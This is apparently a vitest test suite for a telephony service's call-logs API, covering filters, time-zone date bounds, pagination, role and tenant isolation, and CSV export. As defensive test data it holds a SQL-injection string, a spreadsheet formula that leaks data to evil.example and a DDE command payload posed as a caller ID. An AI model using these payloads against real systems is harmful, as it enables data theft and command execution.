import type { Insertable } from 'kysely';
import { DateTime } from 'luxon';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { CallLogsTable } from '../src/db/schema.js';
import type { Api } from './support/api.js';
import { createTestServer, type TestServer } from './support/context.js';
import { csvObjects } from './support/csv.js';
import { createTelephonyOrg, insertCallLogs, type SeedCall, type TelephonyOrg, webhookCall } from './support/telephony.js';

type Row = Insertable<CallLogsTable>;
type Query = Record<string, string>;

const TZ = 'America/New_York';
const STATUSES = ['completed', 'no_answer', 'busy', 'failed', 'answered', 'ringing', 'initiated'] as const;
const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;

let server: TestServer;
let orgA: TelephonyOrg;
let orgB: TelephonyOrg;
let extA2: string;
let didA2: string;
/** Org A's seeded rows (direct inserts), the model the API is checked against. */
let rowsA: Row[];
let rowsB: Row[];

const qs = (q: Query) => (Object.keys(q).length ? `?${new URLSearchParams(q)}` : '');
const newestFirst = (a: Row, b: Row) => (a.created_at === b.created_at ? (a.id! < b.id! ? 1 : -1) : a.created_at < b.created_at ? 1 : -1);

/** The whole filtered list, walked with the cursor; asserts no row is served twice. */
async function listAll(api: Api, q: Query = {}): Promise<any[]> {
  const out: any[] = [];
  let cursor: string | undefined;
  for (let guard = 0; guard < 100; guard++) {
    const res = await api.get(`/call-logs${qs({ ...q, per_page: '100', ...(cursor ? { cursor } : {}) })}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    out.push(...res.body.data);
    cursor = res.body.meta.next_cursor ?? undefined;
    if (!cursor) break;
  }
  expect(new Set(out.map((r) => r.id)).size).toBe(out.length);
  return out;
}

const ids = (rows: Array<{ id?: string }>): string[] => rows.map((r) => r.id!);

/** Which rows a filter set should return, written from the spec (dates = whole days in the org's zone). */
function model(rows: Row[], q: Query, timezone = TZ): Row[] {
  const bound = (value: string, edge: 'start' | 'end') => {
    if (/^\d{4}-\d{2}-\d{2}$/.test(value)) {
      const day = DateTime.fromISO(value, { zone: timezone }).startOf('day');
      return (edge === 'start' ? day : day.plus({ days: 1 })).toUTC().toISO()!;
    }
    // A date-time without an offset is wall-clock time in the organization's zone.
    return DateTime.fromISO(value, { zone: timezone }).toUTC().toISO()!;
  };
  const digits = q.search?.replace(/[^\d+*#]/g, '');
  return rows
    .filter((r) => {
      if (q.direction && r.direction !== q.direction) return false;
      if (q.status && r.status !== q.status) return false;
      if (q.extension_id && r.extension_id !== q.extension_id) return false;
      if (q.did_id && r.did_id !== q.did_id) return false;
      if (digits && !r.from_number.includes(digits) && !r.to_number.includes(digits)) return false;
      const t = Date.parse(r.created_at);
      if (q.from_date && t < Date.parse(bound(q.from_date, 'start'))) return false;
      if (q.to_date) {
        const end = Date.parse(bound(q.to_date, 'end'));
        if (/^\d{4}-\d{2}-\d{2}$/.test(q.to_date) ? t >= end : t > end) return false;
      }
      return true;
    })
    .sort(newestFirst);
}

async function expectFilter(api: Api, rows: Row[], q: Query) {
  const got = await listAll(api, q);
  expect(ids(got), JSON.stringify(q)).toEqual(ids(model(rows, q)));
  const first = await api.get(`/call-logs${qs({ ...q, per_page: '5' })}`);
  expect(first.body.meta.total, JSON.stringify(q)).toBe(got.length);
  return got;
}

async function exportCsv(api: Api, q: Query = {}) {
  const res = await api.get(`/call-logs/export${qs(q)}`);
  expect(res.status, String(res.body)).toBe(200);
  expect(typeof res.body).toBe('string');
  return { res, ...csvObjects(res.body as string) };
}

beforeAll(async () => {
  server = await createTestServer();
  orgA = await createTelephonyOrg(server.app, server.ctx, { name: 'Logs A', timezone: TZ });
  orgB = await createTelephonyOrg(server.app, server.ctx, { name: 'Logs B' });
  extA2 = (await orgA.owner.post('/extensions', { extension_number: '301', type: 'virtual' })).body.id;
  didA2 = (await orgA.owner.post('/dids', { phone_number: '+15558880001', routing_type: 'extension', routing_config: { extension_id: extA2 } })).body.id;

  // 64 calls every 97 minutes from 2025-03-08 (across the US DST change on 2025-03-09), then a
  // few at chosen instants: local midnight edges in New York and three sharing one timestamp.
  const exts = [orgA.agentExtensionId, extA2, null];
  const dids = [orgA.did.id, didA2, null];
  const seeds: SeedCall[] = [];
  for (let i = 0; i < 64; i++) {
    seeds.push({
      organization_id: orgA.organizationId,
      created_at: new Date(Date.UTC(2025, 2, 8, 0, 0) + i * 97 * 60_000).toISOString(),
      direction: i % 3 === 0 ? 'outbound' : 'inbound',
      status: STATUSES[i % STATUSES.length],
      extension_id: exts[i % 3],
      did_id: dids[(i >> 1) % 3],
      from_number: `+1555200${String(i).padStart(4, '0')}`,
      to_number: i % 2 ? orgA.did.number : `+1555300${String(i).padStart(4, '0')}`,
      duration: i % 7 === 0 ? 10 + i : null,
    });
  }
  const edge = (iso: string, extra: Partial<SeedCall> = {}): SeedCall => ({
    organization_id: orgA.organizationId,
    created_at: iso,
    from_number: '+15554440000',
    ...extra,
  });
  seeds.push(
    edge('2025-03-10T03:59:59.999Z'), // 23:59:59.999 on 9 March in New York
    edge('2025-03-10T04:00:00.000Z', { direction: 'outbound' }), // 00:00 on 10 March in New York
    edge('2025-03-09T12:00:00.000Z', { status: 'busy' }),
    ...[0, 1, 2].map(() => edge('2025-03-09T15:30:00.000Z', { extension_id: orgA.agentExtensionId })),
  );
  rowsA = await insertCallLogs(server.ctx, seeds);
  rowsB = await insertCallLogs(
    server.ctx,
    [0, 1, 2, 3].map((i) => ({
      organization_id: orgB.organizationId,
      created_at: new Date(Date.UTC(2025, 2, 9, 10 + i)).toISOString(),
      from_number: `+1555777000${i}`,
    })),
  );
});
afterAll(() => server?.close());

describe('GET /call-logs filters', () => {
  it('lists everything newest first', async () => {
    const all = await listAll(orgA.owner);
    expect(ids(all)).toEqual(ids([...rowsA].sort(newestFirst)));
    expect(all[0]).not.toHaveProperty('cloudonix_cdr');
  });

  it('applies each filter alone', async () => {
    const single: Query[] = [
      { direction: 'inbound' },
      { direction: 'outbound' },
      ...STATUSES.map((status) => ({ status })),
      { extension_id: orgA.agentExtensionId },
      { extension_id: extA2 },
      { did_id: orgA.did.id },
      { did_id: didA2 },
      { search: '2000012' },
      { search: '+1555300' },
      { search: '(555) 200-003' },
      { search: orgA.did.number },
    ];
    for (const q of single) {
      const got = await expectFilter(orgA.owner, rowsA, q);
      expect(got.length, JSON.stringify(q)).toBeGreaterThan(0);
    }
  });

  it('combines filters (every pair, and all at once)', async () => {
    const values: Query[] = [
      { direction: 'inbound' },
      { status: 'completed' },
      { extension_id: orgA.agentExtensionId },
      { did_id: orgA.did.id },
      { search: '55520000' },
      { from_date: '2025-03-09' },
      { to_date: '2025-03-10' },
    ];
    let nonEmpty = 0;
    for (let i = 0; i < values.length; i++) {
      for (let j = i + 1; j < values.length; j++) {
        if ((await expectFilter(orgA.owner, rowsA, { ...values[i], ...values[j] })).length) nonEmpty++;
      }
    }
    expect(nonEmpty).toBeGreaterThan(10);
    await expectFilter(orgA.owner, rowsA, Object.assign({}, ...values));
    await expectFilter(orgA.owner, rowsA, { direction: 'outbound', status: 'no_answer', from_date: '2025-03-08', to_date: '2025-03-11' });
  });

  it('reads from_date / to_date dates as whole days in the organization’s time zone', async () => {
    const tenth = await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-10', to_date: '2025-03-10' });
    const times = tenth.map((r) => r.created_at);
    expect(times).toContain('2025-03-10T04:00:00.000Z');
    expect(times).not.toContain('2025-03-10T03:59:59.999Z');
    expect(times.every((t) => t >= '2025-03-10T04:00:00.000Z' && t < '2025-03-11T04:00:00.000Z')).toBe(true);
    // 9 March 2025 is the 23-hour day of the DST change in New York: 05:00Z to 04:00Z.
    const ninth = await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-09', to_date: '2025-03-09' });
    expect(ninth.map((r) => r.created_at)).toContain('2025-03-10T03:59:59.999Z');
    await expectFilter(orgA.owner, rowsA, { to_date: '2025-03-08' });
    await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-11' });
  });

  it('reads date-times with an offset as exact, inclusive instants', async () => {
    const got = await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-09T12:00:00Z', to_date: '2025-03-10T04:00:00.000Z' });
    const times = got.map((r) => r.created_at);
    expect(times).toContain('2025-03-09T12:00:00.000Z');
    expect(times).toContain('2025-03-10T04:00:00.000Z');
    await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-09T07:00:00-05:00', to_date: '2025-03-09T23:00:00.000-04:00' });
    await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-09T12:00:00.001Z' });
  });

  it('reads a date-time without an offset as wall-clock time in the organization’s zone, whatever the host’s zone', async () => {
    // 10:30 in New York on 9 March 2025 (EDT) is 14:30Z; the host zone must not matter.
    const saved = process.env.TZ;
    try {
      for (const hostZone of ['UTC', 'Asia/Tokyo']) {
        process.env.TZ = hostZone;
        await expectFilter(orgA.owner, rowsA, { from_date: '2025-03-09T10:30:00', to_date: '2025-03-09T12:00:00' });
      }
    } finally {
      if (saved === undefined) delete process.env.TZ;
      else process.env.TZ = saved;
    }
  });

  it('rejects malformed filters with 422', async () => {
    const bad: Query[] = [
      { direction: 'sideways' },
      { status: 'ended' },
      { from_date: 'yesterday' },
      { to_date: '2025-13-40' },
      { extension_id: 'not-a-uuid' },
      { did_id: '42' },
      { search: "1' or 1=1 --" },
      { search: '100%' },
      { cursor: 'garbage' },
      { per_page: '1000' },
    ];
    for (const q of bad) {
      const res = await orgA.owner.get(`/call-logs${qs(q)}`);
      expect(res.status, JSON.stringify(q)).toBe(422);
      expect(res.body.error.code).toBe('VALIDATION_ERROR');
    }
  });
});

describe('pagination', () => {
  it('pages by number and by cursor over the same order, with no duplicates or gaps', async () => {
    const expected = ids([...rowsA].sort(newestFirst));
    const byPage: string[] = [];
    const first = await orgA.owner.get('/call-logs?per_page=7');
    expect(first.body.meta).toMatchObject({
      current_page: 1,
      per_page: 7,
      total: expected.length,
      last_page: Math.ceil(expected.length / 7),
      from: 1,
      to: 7,
      has_more: true,
    });
    for (let page = 1; page <= first.body.meta.last_page; page++) {
      const res = await orgA.owner.get(`/call-logs?per_page=7&page=${page}`);
      expect(res.body.meta.current_page).toBe(page);
      byPage.push(...ids(res.body.data));
    }
    expect(byPage).toEqual(expected);

    const byCursor: string[] = [];
    let cursor: string | null = null;
    let last: any;
    do {
      const res: any = await orgA.owner.get(`/call-logs?per_page=7${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      byCursor.push(...ids(res.body.data));
      cursor = res.body.meta.next_cursor;
      last = res.body.meta;
    } while (cursor);
    expect(byCursor).toEqual(expected);
    expect(last).toMatchObject({ has_more: false, next_cursor: null, to: expected.length });
  });

  it('keeps a cursor walk stable while new calls arrive', async () => {
    const filter = { from_date: '2025-03-09', to_date: '2025-03-10' };
    const expected = ids(model(rowsA, filter));
    const first = await orgA.owner.get(`/call-logs${qs({ ...filter, per_page: '4' })}`);
    // A newer call lands in the same window between the two requests.
    const [intruder] = await insertCallLogs(server.ctx, [{ organization_id: orgA.organizationId, created_at: '2025-03-11T03:59:59.999Z' }]);
    try {
      const seen = ids(first.body.data);
      let cursor = first.body.meta.next_cursor;
      while (cursor) {
        const res = await orgA.owner.get(`/call-logs${qs({ ...filter, per_page: '4', cursor })}`);
        seen.push(...ids(res.body.data));
        cursor = res.body.meta.next_cursor;
      }
      expect(seen).toEqual(expected);
    } finally {
      await server.ctx.db.deleteFrom('call_logs').where('id', '=', intruder!.id!).execute();
    }
  });
});

describe('GET /call-logs/:id', () => {
  it('returns one call with its raw Cloudonix CDR, as ingested from the real webhooks', async () => {
    const org = await createTelephonyOrg(server.app, server.ctx, { name: 'Webhook Org' });
    const from = '+15559990001';
    const { callSid, cdr } = await webhookCall(org, { from, to: org.did.number, billsec: 42 });
    const [listed] = (await org.owner.get(`/call-logs${qs({ search: from })}`)).body.data;
    expect(listed).toMatchObject({ call_id: callSid, status: 'completed', duration: 42 });
    expect(listed).not.toHaveProperty('cloudonix_cdr');

    const res = await org.owner.get(`/call-logs/${listed.id}`);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      id: listed.id,
      organization_id: org.organizationId,
      call_id: callSid,
      direction: 'inbound',
      from_number: from,
      to_number: org.did.number,
      did_id: org.did.id,
      extension_id: org.agentExtensionId,
      ring_group_id: null,
      status: 'completed',
      answer_time: new Date(cdr.session.callAnswerTime).toISOString(),
      end_time: new Date(cdr.session.callEndTime).toISOString(),
      duration: 42,
      recording_url: null,
    });
    expect(res.body.cloudonix_cdr).toEqual(cdr);
    expect(res.body.created_at).toMatch(ISO);
    expect(res.body.updated_at).toMatch(ISO);
    expect((await orgA.owner.get(`/call-logs/${listed.id}`)).status).toBe(404);
  });

  it('is 404 for unknown, malformed and other organizations’ ids', async () => {
    for (const id of ['01900000-0000-7000-8000-000000000000', 'not-a-uuid', rowsB[0]!.id!]) {
      const res = await orgA.owner.get(`/call-logs/${id}`);
      expect(res.status, id).toBe(404);
      expect(res.body.error.code).toBe('NOT_FOUND');
    }
    expect((await orgA.anon.get(`/call-logs/${rowsA[0]!.id}`)).status).toBe(401);
  });
});

describe('agents see only their own extension’s calls', () => {
  const own = () => rowsA.filter((r) => r.extension_id === orgA.agentExtensionId);

  it('in the list, with or without filters', async () => {
    const all = await listAll(orgA.agent);
    expect(ids(all)).toEqual(ids(own().sort(newestFirst)));
    expect(all.every((r) => r.extension_id === orgA.agentExtensionId)).toBe(true);
    expect(await listAll(orgA.agent, { extension_id: extA2 })).toEqual([]);
    const q = { status: 'completed', from_date: '2025-03-09' };
    expect(ids(await listAll(orgA.agent, q))).toEqual(ids(model(own(), q)));
  });

  it('in the detail view (404 for other extensions’ calls)', async () => {
    const mine = own()[0]!;
    const theirs = rowsA.find((r) => r.extension_id === extA2)!;
    const unassigned = rowsA.find((r) => r.extension_id === null)!;
    expect((await orgA.agent.get(`/call-logs/${mine.id}`)).status).toBe(200);
    expect((await orgA.agent.get(`/call-logs/${theirs.id}`)).status).toBe(404);
    expect((await orgA.agent.get(`/call-logs/${unassigned.id}`)).status).toBe(404);
    // Admins see every call of the organization.
    expect((await orgA.admin.get(`/call-logs/${theirs.id}`)).status).toBe(200);
  });

  it('in the CSV export', async () => {
    const csv = await exportCsv(orgA.agent);
    expect(csv.rows.map((r) => r.id)).toEqual(ids(own().sort(newestFirst)));
    const filtered = await exportCsv(orgA.agent, { extension_id: extA2 });
    expect(filtered.rows).toEqual([]);
  });
});

describe('an agent without an extension', () => {
  // Before: `extension_id IS NULL` showed them every unassigned call, and their total shared the
  // managers' cache entry (both keyed by a null extension), leaking the organization's call volume.
  it('sees no calls in the list, its total, the detail view, the CSV export and the dashboard', async () => {
    expect(rowsA.some((r) => r.extension_id === null)).toBe(true);
    const email = `lone.${Date.now()}@test.example`;
    expect((await orgA.owner.post('/users', { name: 'Lone Agent', email, password: 'passw0rd-test', role: 'agent' })).status).toBe(201);
    const login = await orgA.anon.post('/auth/login', { email, password: 'passw0rd-test' });
    const lone = orgA.anon.as(login.body.access_token);

    // A manager's list first, so the organization's total is cached.
    const managers = await orgA.owner.get('/call-logs?per_page=1');
    expect(managers.body.meta.total).toBe(rowsA.length);
    const list = await lone.get('/call-logs?per_page=1');
    expect(list.status).toBe(200);
    expect(list.body.data).toEqual([]);
    expect(list.body.meta.total).toBe(0);
    expect(await listAll(lone)).toEqual([]);
    const unassigned = rowsA.find((r) => r.extension_id === null)!;
    expect((await lone.get(`/call-logs/${unassigned.id}`)).status).toBe(404);
    expect((await exportCsv(lone)).rows).toEqual([]);
    const stats = await lone.get('/dashboard/stats');
    expect(stats.status).toBe(200);
    expect(stats.body).toMatchObject({ active_calls: 0, calls_today: 0, calls_this_week: 0, calls_this_month: 0 });
    expect((await lone.get('/dashboard/recent-calls')).body.data ?? (await lone.get('/dashboard/recent-calls')).body).toEqual([]);
    // And the manager's total is still the organization's.
    expect((await orgA.owner.get('/call-logs?per_page=1')).body.meta.total).toBe(rowsA.length);
  });
});

describe('tenant isolation', () => {
  it('keeps each organization’s calls to itself in list, detail and export', async () => {
    const listB = await listAll(orgB.owner);
    expect(ids(listB).sort()).toEqual(ids(rowsB).sort());
    expect(await listAll(orgB.owner, { search: '+15552000001' })).toEqual([]);
    expect(await listAll(orgB.owner, { extension_id: orgA.agentExtensionId })).toEqual([]);
    expect(await listAll(orgB.owner, { did_id: orgA.did.id })).toEqual([]);
    expect((await orgB.owner.get(`/call-logs/${rowsA[0]!.id}`)).status).toBe(404);
    const csv = await exportCsv(orgB.owner);
    expect(csv.rows.map((r) => r.id).sort()).toEqual(ids(rowsB).sort());
    const aIds = new Set(ids(await listAll(orgA.owner)));
    expect(listB.some((r) => aIds.has(r.id))).toBe(false);
  });
});

describe('GET /call-logs/export (CSV)', () => {
  it('answers text/csv as an attachment, with a header row and ISO times', async () => {
    const { res, header, rows } = await exportCsv(orgA.owner);
    expect(String(res.headers['content-type'])).toMatch(/^text\/csv/);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment;\s*filename="?[^"]+\.csv"?$/);
    for (const col of ['id', 'call_id', 'direction', 'from_number', 'to_number', 'status', 'created_at', 'answer_time', 'end_time', 'duration'])
      expect(header).toContain(col);
    expect((res.body as string).endsWith('\r\n')).toBe(true);
    expect(rows.map((r) => r.id)).toEqual(ids(await listAll(orgA.owner)));
    for (const r of rows) {
      expect(r.created_at).toMatch(ISO);
      for (const col of ['answer_time', 'end_time']) if (r[col] !== '') expect(r[col]).toMatch(ISO);
    }
    const byId = new Map(rows.map((r) => [r.id, r]));
    for (const seeded of rowsA) {
      const r = byId.get(seeded.id!)!;
      expect(r.created_at).toBe(seeded.created_at);
      expect(r.duration).toBe(seeded.duration === null || seeded.duration === undefined ? '' : String(seeded.duration));
    }
    expect((await orgA.anon.get('/call-logs/export')).status).toBe(401);
  });

  it('applies the same filters as the list', async () => {
    const filters: Query[] = [
      { direction: 'outbound' },
      { status: 'no_answer' },
      { extension_id: extA2 },
      { did_id: didA2 },
      { search: '+1555300' },
      { from_date: '2025-03-09', to_date: '2025-03-09' },
      { from_date: '2025-03-09T12:00:00Z', to_date: '2025-03-10T04:00:00Z', direction: 'inbound' },
      { direction: 'inbound', status: 'completed', extension_id: orgA.agentExtensionId },
    ];
    for (const q of filters) {
      const csv = await exportCsv(orgA.owner, q);
      expect(
        csv.rows.map((r) => r.id),
        JSON.stringify(q),
      ).toEqual(ids(await listAll(orgA.owner, q)));
    }
    expect((await orgA.owner.get(`/call-logs/export${qs({ direction: 'sideways' })}`)).status).toBe(422);
  });

  it('quotes per RFC 4180 and neutralises spreadsheet formulas', async () => {
    const org = await createTelephonyOrg(server.app, server.ctx, { name: 'CSV Org' });
    const tricky = {
      hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      sum: '@SUM(1)',
      minus: '-2+3',
      plusFormula: '+SUM(1)',
      tab: '\t=1+1',
      quoted: 'Smith, "Bob"\r\nsecond line',
      lf: 'line1\nline2',
      plain: '+15551234567',
    };
    const seeded = await insertCallLogs(server.ctx, [
      { organization_id: org.organizationId, created_at: '2025-05-01T10:00:00.000Z', from_number: tricky.hyperlink, to_number: tricky.quoted },
      { organization_id: org.organizationId, created_at: '2025-05-01T10:01:00.000Z', from_number: tricky.sum, to_number: tricky.minus },
      { organization_id: org.organizationId, created_at: '2025-05-01T10:02:00.000Z', from_number: tricky.plusFormula, to_number: tricky.tab },
      {
        organization_id: org.organizationId,
        created_at: '2025-05-01T10:03:00.000Z',
        from_number: tricky.plain,
        to_number: tricky.lf,
        answer_time: '2025-05-01T10:03:05.000Z',
        end_time: '2025-05-01T10:04:05.000Z',
        duration: 60,
        recording_url: 'https://rec.example/a,b.wav',
      },
    ]);
    // One more through the real webhooks: a caller id crafted as a formula.
    await webhookCall(org, { from: '=cmd|"/c calc"!A1', to: org.did.number });

    const { rows } = await exportCsv(org.owner);
    expect(rows).toHaveLength(5);
    const byId = new Map(rows.map((r) => [r.id, r]));
    const cell = (i: number, col: string) => byId.get(seeded[i]!.id!)![col]!;
    const expectNeutralised = (value: string, original: string) => {
      expect(value, original).not.toMatch(/^[=+\-@\t\r]/);
      expect(value.endsWith(original), `${JSON.stringify(value)} keeps ${JSON.stringify(original)}`).toBe(true);
    };
    expectNeutralised(cell(0, 'from_number'), tricky.hyperlink);
    expect(cell(0, 'to_number')).toBe(tricky.quoted);
    expectNeutralised(cell(1, 'from_number'), tricky.sum);
    expectNeutralised(cell(1, 'to_number'), tricky.minus);
    expectNeutralised(cell(2, 'from_number'), tricky.plusFormula);
    expectNeutralised(cell(2, 'to_number'), tricky.tab);
    expect(cell(3, 'from_number')).toBe(tricky.plain);
    expect(cell(3, 'to_number')).toBe(tricky.lf);
    expect(cell(3, 'recording_url')).toBe('https://rec.example/a,b.wav');
    expect(cell(3, 'answer_time')).toBe('2025-05-01T10:03:05.000Z');
    expect(cell(3, 'end_time')).toBe('2025-05-01T10:04:05.000Z');
    expect(cell(3, 'duration')).toBe('60');

    const viaWebhook = rows.find((r) => !seeded.some((s) => s.id === r.id))!;
    const stored = (await org.owner.get(`/call-logs/${viaWebhook.id}`)).body;
    expect(stored.from_number.startsWith('=')).toBe(true);
    expectNeutralised(viaWebhook.from_number!, stored.from_number);
    expect(viaWebhook.to_number).toBe(org.did.number);
  });

  it('puts names and numbers next to the ids, and local times named by the organization’s zone', async () => {
    const org = await createTelephonyOrg(server.app, server.ctx, { name: 'Named CSV Org', timezone: 'Europe/Paris' });
    const agentName = (await org.agent.get('/auth/me')).body.name as string;
    const virtual = (await org.owner.post('/extensions', { extension_number: '401', type: 'virtual' })).body.id as string;
    const group = await org.owner.post('/ring-groups', { name: 'Sales, "EU"', strategy: 'simultaneous', members: [{ extension_id: virtual, priority: 1 }] });
    expect(group.status).toBe(201);
    const [summer, winter, bare] = await insertCallLogs(server.ctx, [
      {
        organization_id: org.organizationId,
        created_at: '2025-05-01T10:03:00.000Z',
        did_id: org.did.id,
        extension_id: org.agentExtensionId,
        answer_time: '2025-05-01T10:03:05.000Z',
        end_time: '2025-05-01T10:04:05.000Z',
        duration: 60,
      },
      // 23:30 UTC on 15 January is half past midnight on the 16th in Paris (UTC+1 in winter).
      { organization_id: org.organizationId, created_at: '2025-01-15T23:30:00.000Z', extension_id: virtual, ring_group_id: group.body.id, status: 'no_answer' },
      { organization_id: org.organizationId, created_at: '2025-01-15T08:00:00.000Z' },
    ]);
    const { header, rows } = await exportCsv(org.owner);
    expect(header).toEqual([
      'id',
      'call_id',
      'direction',
      'from_number',
      'to_number',
      'did_id',
      'did_number',
      'extension_id',
      'extension_number',
      'extension_name',
      'ring_group_id',
      'ring_group_name',
      'status',
      'outcome',
      'start_time (Europe/Paris)',
      'answer_time (Europe/Paris)',
      'end_time (Europe/Paris)',
      'created_at',
      'answer_time',
      'end_time',
      'duration',
      'recording_url',
    ]);
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get(summer!.id!)).toMatchObject({
      did_id: org.did.id,
      did_number: org.did.number,
      extension_id: org.agentExtensionId,
      extension_number: '300',
      extension_name: agentName,
      ring_group_name: '',
      // Paris is UTC+2 in May.
      'start_time (Europe/Paris)': '2025-05-01 12:03:00',
      'answer_time (Europe/Paris)': '2025-05-01 12:03:05',
      'end_time (Europe/Paris)': '2025-05-01 12:04:05',
      created_at: '2025-05-01T10:03:00.000Z',
      answer_time: '2025-05-01T10:03:05.000Z',
    });
    expect(byId.get(winter!.id!)).toMatchObject({
      did_number: '',
      extension_number: '401',
      extension_name: '',
      ring_group_id: group.body.id,
      ring_group_name: 'Sales, "EU"',
      'start_time (Europe/Paris)': '2025-01-16 00:30:00',
      'answer_time (Europe/Paris)': '',
    });
    expect(byId.get(bare!.id!)).toMatchObject({
      did_number: '',
      extension_number: '',
      extension_name: '',
      ring_group_name: '',
      'start_time (Europe/Paris)': '2025-01-15 09:00:00',
    });
    // An agent's export joins the same names to their own calls only.
    expect((await exportCsv(org.agent)).rows.map((r) => [r.id, r.extension_name])).toEqual([[summer!.id, agentName]]);
  });

  it('streams large exports completely, in order, across its internal pages', async () => {
    const org = await createTelephonyOrg(server.app, server.ctx, { name: 'Volume Org' });
    const base = Date.UTC(2025, 0, 1);
    // 2,150 calls; those around position 2,000 share one timestamp so the id tiebreak is what orders them.
    const seeds: SeedCall[] = Array.from({ length: 2150 }, (_, i) => ({
      organization_id: org.organizationId,
      created_at: new Date(base + (i >= 140 && i < 160 ? 150 : i) * 60_000).toISOString(),
      status: STATUSES[i % STATUSES.length],
    }));
    const rows = await insertCallLogs(server.ctx, seeds);
    const { rows: exported } = await exportCsv(org.owner);
    expect(exported.map((r) => r.id)).toEqual(ids([...rows].sort(newestFirst)));
    const filtered = await exportCsv(org.owner, { status: 'busy' });
    expect(filtered.rows.map((r) => r.id)).toEqual(ids(rows.filter((r) => r.status === 'busy').sort(newestFirst)));
  });
});
